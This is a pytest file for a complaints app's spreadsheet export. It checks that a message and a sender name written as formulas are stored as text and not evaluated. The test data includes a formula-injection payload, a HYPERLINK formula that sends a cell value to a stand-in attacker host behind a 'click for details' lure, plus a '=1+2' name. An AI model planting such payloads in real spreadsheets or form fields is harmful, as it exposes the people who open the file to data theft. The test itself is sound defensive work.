"""What a member of the public wrote reaches the complaints export as their words: a message or a
name that looks like a formula is stored as text, never evaluated, and reads back unchanged in
openpyxl and in LibreOffice; the dates of the list are Excel dates."""

import csv
import datetime
import io
import subprocess
import zoneinfo

import pytest
import time_machine
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from dudao.complaints.tests.helpers import register
from dudao.core.testing.world import fresh, world_rolled_back
from dudao.documents.render import soffice_path

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看详情")'
TODAY = datetime.datetime(2026, 12, 5, 10, 0, tzinfo=zoneinfo.ZoneInfo("Asia/Shanghai"))


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with world_rolled_back(django_db_blocker) as world:
        yield world


@pytest.fixture
def exported(world, client):
    """The office's complaints list exported (``?export=xlsx``) after a complaint whose message is a
    formula, sent by a ``=1+2``; returns the workbook's bytes and the complaint's row by header."""
    with time_machine.travel(TODAY, tick=False):
        complaint, _code = register(world, text=FORMULA, name="=1+2")
        client.force_login(fresh(world.a.users["office_admin"]))
        data = client.get(reverse("complaints:complaint_list") + "?export=xlsx").content
    sheet = load_workbook(io.BytesIO(data)).active
    headers = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == complaint.pk)
    with translation.override("zh-hans"):
        return data, {label: row[headers.index(gettext(label))] for label in
                      ("Message", "Sender", "Received", "Answer due")}


def test_a_formula_in_a_complaint_is_exported_as_the_senders_words(exported):
    _data, cells = exported
    message, sender = cells["Message"], cells["Sender"]
    assert message.value == FORMULA and message.data_type == "s"
    assert sender.value.startswith("=") and sender.data_type == "s"  # the name masked ("=**"), still text


def test_the_complaints_list_exports_its_dates_as_dates(exported):
    _data, cells = exported
    received, due = cells["Received"].value, cells["Answer due"].value
    assert received == datetime.datetime(2026, 12, 5) and cells["Received"].is_date
    assert isinstance(due, datetime.datetime) and due > received


def test_libreoffice_reads_the_senders_words_not_a_formula(exported, tmp_path):
    data, _cells = exported
    (tmp_path / "complaints.xlsx").write_bytes(data)
    subprocess.run([soffice_path(), "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(tmp_path),
                    str(tmp_path / "complaints.xlsx")], capture_output=True, timeout=120, check=True)
    cells = [value for row in csv.reader((tmp_path / "complaints.csv").open(encoding="utf-8")) for value in row]
    assert FORMULA in cells
    assert not [value for value in cells if value.startswith(("Err:", "#NAME", "#VALUE"))]
